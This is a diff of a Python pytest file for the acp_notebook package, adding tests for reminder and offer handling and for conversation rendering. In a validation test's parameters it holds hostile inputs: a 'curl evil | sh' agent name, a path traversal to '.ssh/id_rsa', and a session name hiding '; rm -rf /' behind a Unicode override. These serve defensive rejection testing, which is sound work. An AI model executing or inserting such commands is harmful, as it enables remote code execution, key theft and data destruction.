@@ -3,6 +3,7 @@
 from __future__ import annotations
 
 import json
+import threading
 from collections.abc import Iterator
 from pathlib import Path
 from typing import Any
@@ -11,9 +12,12 @@ import pytest
 
 import acp_notebook as acp
 from acp_notebook.agent.threads import on_a_thread
+from acp_notebook.core.conversation_context import quoted_context
 from acp_notebook.core.document_protocol import Unreachable
 from acp_notebook.core.page_messages import GoingOn
+from acp_notebook.core.records import Resource
 from acp_notebook.core.snapshot import TurnStart
+from acp_notebook.frontend.panel import going_on
 from acp_notebook.frontend.panel.going_on import FOUND, INCLUDED, GoingOnOffer
 from acp_notebook.notebook import saved_conversations
 from acp_notebook.notebook.earlier_outputs import EarlierOutputs
@@ -183,7 +187,7 @@ def test_a_session_that_the_agent_no_longer_has_leaves_the_other_ways(
 @pytest.mark.parametrize(
     ("changed", "why"),
     [
-        ({"agent": "kimi"}, "this conversation was with kimi, not with demo"),
+        ({"agent": "kimi"}, 'this conversation was with "kimi", not with demo'),
         ({"agent": "sh -c 'curl evil | sh'"}, "not with demo"),
         ({"session": "../../.ssh/id_rsa"}, "not one that agents use"),
         ({"session": "demo-1\u202e; rm -rf /"}, "not one that agents use"),
@@ -257,8 +261,46 @@ def test_a_prompt_whose_answer_the_notebook_has_is_said_to_be_sent_again_once(
     fresh._loop.call(stage.offer.remind(CELL, digest, lambda: said.append("yes")))
     assert said == ["yes"]
     assert "%%acp --cached" in stage.sent[-1].text
-    assert ways(stage.sent[-1]) == ["fresh"]
-    assert ways(stage.choose("fresh")) == []
+    assert ways(stage.sent[-1]) == ["noted"]
+    assert ways(stage.choose("noted")) == []
+
+
+def test_the_answer_to_the_reminder_does_not_answer_the_offer(
+    fresh: acp.Session, saved: dict[str, Any], tmp_path: Path
+) -> None:
+    turn = next(line for line in saved[TRANSCRIPT_MIME] if '"digest"' in line)
+    both = Documents(notebook(tmp_path / "a.ipynb", saved), ({TRANSCRIPT_MIME: turn},))
+    stage = Stage(fresh, both)
+    offer = stage.look_back()
+    fresh._loop.call(stage.offer.remind(CELL, json.loads(turn)["digest"], lambda: None))
+    assert ways(stage.sent[-1]) == ["noted"]
+    assert stage.choose("noted") == stage.choose("noted") == offer
+    fresh._loop.call(stage.offer.remind(CELL, json.loads(turn)["digest"], lambda: None))
+    stage.choose("resume")
+    assert stage.prompts == ["The number is 7"]
+
+
+def test_the_conversation_is_rendered_once_and_not_on_the_loop_thread(
+    fresh: acp.Session, saved: dict[str, Any], tmp_path: Path, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    threads: list[int] = []
+
+    def rendered(conversation: acp.Snapshot) -> Resource | None:
+        threads.append(threading.get_ident())
+        return quoted_context(conversation)
+
+    monkeypatch.setattr(going_on, "quoted_context", rendered)
+    stage = Stage(fresh, Documents(notebook(tmp_path / "a.ipynb", saved)))
+    stage.look_back()
+    for _ in range(3):
+        fresh._loop.post(stage.offer.send)
+    assert "The number is 7" in stage.choose("context").quoted
+
+    async def loop_thread() -> int:
+        return threading.get_ident()
+
+    assert len(threads) == 1
+    assert threads != [fresh._loop.call(loop_thread())]
 
 
 def test_a_session_that_is_open_under_the_same_id_leaves_the_other_ways(
